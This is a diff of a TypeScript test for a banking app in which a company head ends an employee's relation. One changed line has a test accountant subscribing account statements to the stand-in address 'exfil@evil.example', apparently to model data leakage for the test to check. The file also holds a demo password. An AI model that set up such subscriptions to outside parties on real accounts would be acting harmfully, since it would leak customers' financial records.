@@ -10,7 +10,7 @@ import { companyOf, needSignatures, personOf, setRelation, signatoryOf } from '.
 import { openTestBank, type TestBank } from '../../testing/test-bank.ts'
 import type { TestClient } from '../../testing/test-client.ts'
 import { askForCode, codeFor, created, mainAccount, paymentBody, paymentNow } from '../../testing/test-payment.ts'
-import { subscriptionOf } from '../../testing/calls-about.ts'
+import { subscribe, wishFor } from '../../testing/statement-subscription.ts'
 import { paymentTable, uploadedImport } from '../../testing/upload-payment-file.ts'
 import { messagesToHeads, messagesToPerson } from './ending-messages.ts'
 import { endRelation } from './end-relation.ts'
@@ -133,7 +133,7 @@ describe('a head ends a relation', () => {
     })
     const rules = (['UAH', 'USD', 'EUR'] as const).map((currency) => ({ accountId: null, currency, from: '0', needs: ['any' as const] }))
     const proposed = await accountant.call('PUT /api/payment-service/signing-policy/change', { body: { rules } })
-    const subscribed = await accountant.call('POST /api/account-service/statement-subscriptions', { body: subscriptionOf(account.id, 'exfil@evil.example') })
+    const subscribed = await subscribe(bank, accountant, ACCOUNTANT, wishFor(account.id, 'exfil@evil.example'))
     const invited = await accountant.call('POST /api/operation-service/invitations', {
       headers: { 'idempotency-key': randomUUID() },
       body: { fullName: 'Бондаренко Ігор Васильович', phone: IHOR, positionCode: '200700', signatureType: 'none', lang: 'uk', password: 'Dilo-demo-1' },
